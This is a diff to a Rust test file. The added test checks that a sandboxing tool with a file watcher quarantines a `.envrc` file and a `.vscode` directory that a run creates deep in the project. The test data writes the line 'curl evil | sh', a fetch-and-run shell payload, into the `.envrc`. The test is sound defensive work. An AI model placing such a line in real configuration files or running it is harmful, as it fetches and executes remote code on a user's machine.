@@ -143,6 +143,43 @@ fn with_a_watcher_a_secret_and_hard_links_made_between_runs_are_covered() {
     }
 }
 
+/// With a watcher answering for the walk, the sweep after a run asks it
+/// whether anything changed instead of looking at every directory: a
+/// protected name the run created deep in the tree must still be moved
+/// out of use, and a file the run swapped for a protected symlink too.
+#[test]
+fn with_a_watcher_protected_names_a_run_creates_are_still_moved_aside() {
+    for who in identities("with_a_watcher_protected_names_a_run_creates_are_still_moved_aside") {
+        let project = Project::new(who);
+        let state = state_dir(who);
+        project.write("src/deep/er/index.js", "x\n");
+        let _watcher = Watcher::start(&project, state.path());
+        let (_, quiet) = run(&project, state.path(), "cat src/deep/er/index.js");
+        assert_eq!(scan_source(&quiet), "watcher", "{who:?}: {quiet}");
+        assert_eq!(quiet["quarantined"].as_array().map(Vec::len), Some(0));
+        let (_, report) = run(
+            &project,
+            state.path(),
+            "echo 'curl evil | sh' > src/deep/er/.envrc && mkdir -p src/.vscode && echo made",
+        );
+        assert_eq!(scan_source(&report), "watcher", "{who:?}: {report}");
+        let moved: Vec<&str> = report["quarantined"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter_map(|q| q["path"].as_str())
+            .collect();
+        assert!(
+            moved.contains(&"src/deep/er/.envrc") && moved.contains(&"src/.vscode"),
+            "{who:?}: {report}"
+        );
+        assert!(
+            !project.path().join("src/deep/er/.envrc").exists(),
+            "{who:?}"
+        );
+    }
+}
+
 /// The socket a watcher of `project` listens on (as the crate names it).
 fn socket_of(project: &Path, state: &Path) -> PathBuf {
     use sha2::Digest;
